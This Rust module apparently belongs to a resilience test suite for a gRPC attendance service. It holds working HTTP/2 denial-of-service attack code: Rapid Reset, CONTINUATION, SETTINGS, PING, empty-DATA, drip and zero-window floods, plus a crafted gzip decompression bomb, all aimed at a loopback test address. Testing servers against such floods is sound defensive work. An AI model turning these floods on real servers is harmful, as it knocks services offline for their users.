//! Attackers: HTTP/2 frames (RFC 9113) written by hand, with headers as literals (RFC 7541), in plain text.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const NO_FLAGS: u8 = 0;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const PUNCH: &str = "/qinlian.v1.AttendanceService/RecordPunch";
const HEALTH: &str = "/grpc.health.v1.Health/Check";

/// Attackers have an address of their own, so that limits by address can tell them from honest callers.
const FROM: &str = "127.0.0.2:0";
/// After a burst, so that the machine is not busy with writing alone; some 10,000 frames a second and connection.
const BREATH: Duration = Duration::from_millis(5);
/// After a connection that was closed.
const AGAIN: Duration = Duration::from_millis(20);

/// What an attacker does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    /// Opens calls and resets them at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (RUSTSEC-2024-0332).
    Continuation,
    /// Settings, each of which wants an acknowledgement (CVE-2019-9515).
    Settings,
    /// Pings, each of which wants an answer (CVE-2019-9512).
    Ping,
    /// Frames of a body with nothing in them (RUSTSEC-2026-0258).
    EmptyData,
    /// Bodies that come a byte at a time, on every stream that there may be.
    Drip,
    /// Asks, and never lets the answers through (CVE-2019-9517).
    ZeroWindow,
    /// Small messages that would be large if somebody inflated them.
    GzipBomb,
}

/// What became of an attacker.
#[derive(Debug, Default, Clone, Copy)]
pub(super) struct Outcome {
    /// Bursts that were written.
    pub(super) bursts: usize,
    /// Connections that the server closed.
    pub(super) closed: usize,
}

/// Attacks for so long, with one connection after the other.
pub(super) async fn attack(address: &str, flood: Flood, token: &str, how_long: Duration) -> Outcome {
    let mut outcome = Outcome::default();
    let attacking = async {
        loop {
            let stream = connect(address).await;
            let (mut read, mut write) = stream.into_split();
            // Who does not read is soon stopped by TCP alone.
            let reader = async move {
                let mut bytes = vec![0; 64 * 1024];
                while read.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
            };
            let writer = async {
                let mut next = 1;
                if write.write_all(&opening(flood, token, &mut next)).await.is_err() {
                    return;
                }
                while next < u32::MAX / 4 && write.write_all(&burst(flood, token, &mut next)).await.is_ok() {
                    outcome.bursts += 1;
                    tokio::time::sleep(BREATH).await;
                }
            };
            tokio::select! {
                () = reader => {}
                () = writer => {}
            }
            outcome.closed += 1;
            tokio::time::sleep(AGAIN).await;
        }
    };
    let _elapsed: Result<(), _> = tokio::time::timeout(how_long, attacking).await;
    outcome
}

/// A connection from the attackers' address.
pub(super) async fn connect(address: &str) -> TcpStream {
    loop {
        let socket = TcpSocket::new_v4().expect("a socket");
        socket.bind(FROM.parse().expect("an address")).expect("all of 127/8 is the loopback interface's");
        if let Ok(stream) = socket.connect(address.parse().expect("an address")).await {
            return stream;
        }
        tokio::time::sleep(AGAIN).await;
    }
}

/// What a connection begins with: the preface, settings, and what the flood needs first.
fn opening(flood: Flood, token: &str, next: &mut u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE: nothing may be sent to us.
    let settings: &[u8] = if flood == Flood::ZeroWindow { &[0, 4, 0, 0, 0, 0] } else { &[] };
    bytes.extend(frame(SETTINGS, NO_FLAGS, 0, settings));
    match flood {
        Flood::Continuation => bytes.extend(frame(HEADERS, NO_FLAGS, 1, &headers(PUNCH, token, &[]))),
        Flood::EmptyData => bytes.extend(frame(HEADERS, END_HEADERS, 1, &headers(PUNCH, token, &[]))),
        Flood::Drip => {
            for stream in 0..100 {
                // The length says that a message of 60,000 bytes comes.
                let block = headers(PUNCH, token, &[]);
                bytes.extend(frame(HEADERS, END_HEADERS, 2 * stream + 1, &block));
                bytes.extend(frame(DATA, NO_FLAGS, 2 * stream + 1, &[0, 0, 0, 0xea, 0x60]));
            }
        }
        Flood::RapidReset | Flood::Settings | Flood::Ping | Flood::ZeroWindow | Flood::GzipBomb => {}
    }
    *next = 1;
    bytes
}

/// What it goes on with, again and again.
fn burst(flood: Flood, token: &str, next: &mut u32) -> Vec<u8> {
    let mut stream = || {
        let stream = *next;
        *next += 2;
        stream
    };
    match flood {
        Flood::RapidReset => {
            let block = headers(PUNCH, token, &[]);
            let pair = |stream| {
                // CANCEL.
                [
                    frame(HEADERS, END_HEADERS, stream, &block),
                    frame(RST_STREAM, NO_FLAGS, stream, &[0, 0, 0, 8]),
                ]
                .concat()
            };
            (0..50).flat_map(|_| pair(stream())).collect()
        }
        Flood::Continuation => frame(CONTINUATION, NO_FLAGS, 1, &literal("x-more", &"x".repeat(8_000))),
        Flood::Settings => frame(SETTINGS, NO_FLAGS, 0, &[]).repeat(50),
        Flood::Ping => frame(PING, NO_FLAGS, 0, &[7; 8]).repeat(50),
        Flood::EmptyData => frame(DATA, NO_FLAGS, 1, &[]).repeat(50),
        Flood::Drip => (0..100).flat_map(|n| frame(DATA, NO_FLAGS, 2 * n + 1, &[0])).collect(),
        Flood::ZeroWindow => (0..10)
            .flat_map(|_| {
                let stream = stream();
                let asked = frame(HEADERS, END_HEADERS, stream, &headers(HEALTH, "", &[]));
                [asked, frame(DATA, END_STREAM, stream, &[0; 5])].concat()
            })
            .collect(),
        Flood::GzipBomb => {
            let stream = stream();
            let block = headers(PUNCH, token, &[("grpc-encoding", "gzip")]);
            let bomb = bomb(12_000);
            let length = u32::try_from(bomb.len()).expect("small").to_be_bytes();
            let message = [&[1], length.as_slice(), &bomb].concat();
            let asked = frame(HEADERS, END_HEADERS, stream, &block);
            [asked, frame(DATA, END_STREAM, stream, &message)].concat()
        }
    }
}

/// A frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The headers of a call (RFC 7541 §6: two from the static table, the rest literals).
fn headers(path: &str, token: &str, more: &[(&str, &str)]) -> Vec<u8> {
    // :method POST, :scheme http.
    let mut block = vec![0x83, 0x86];
    block.extend(literal(":path", path));
    block.extend(literal(":authority", "hall"));
    block.extend(literal("content-type", "application/grpc"));
    block.extend(literal("te", "trailers"));
    if !token.is_empty() {
        block.extend(literal("authorization", token));
    }
    block.extend(more.iter().flat_map(|(name, value)| literal(name, value)));
    block
}

/// A header that is put into no table, with its name written out.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        // RFC 7541 §5.1: a number with a prefix of seven bits.
        match text.len() {
            short @ 0..127 => bytes.push(u8::try_from(short).expect("short")),
            long => {
                bytes.push(127);
                let mut rest = long - 127;
                while rest >= 128 {
                    bytes.push(u8::try_from(rest % 128 + 128).expect("a byte"));
                    rest /= 128;
                }
                bytes.push(u8::try_from(rest).expect("a byte"));
            }
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}

/// A gzip file (RFC 1952) of about so many bytes that is 159 times as long when inflated: one nought, and "the same 258
/// times again" by the fixed codes of RFC 1951 §3.2.6. Its end is missing, which whoever inflates it learns last.
fn bomb(bytes: usize) -> Vec<u8> {
    let mut bits: Vec<bool> = Vec::new();
    let mut put = |text: &str| bits.extend(text.bytes().map(|bit| bit == b'1'));
    // The last block, with fixed codes; then the literal 0.
    put("110");
    put("00110000");
    for _ in 0..bytes * 8 / 13 {
        put("1100010100000");
    }
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    file.extend(
        bits.chunks(8)
            .map(|eight| eight.iter().enumerate().fold(0, |byte, (at, bit)| byte | (u8::from(*bit) << at))),
    );
    file
}

#[test]
fn lengths_of_headers_are_written_as_the_rfc_says() {
    // RFC 7541 §C.1.2 has 1337 with a prefix of five bits; with seven it is 127, then 1210 = 9 × 128 + 58.
    assert_eq!(literal("a", &"x".repeat(1337))[..5], [0, 1, b'a', 127, 58 + 128]);
    assert_eq!(literal("a", &"x".repeat(126))[3], 126);
    assert_eq!(frame(PING, NO_FLAGS, 3, &[9])[..], [0, 0, 1, 6, 0, 0, 0, 0, 3, 9]);
}
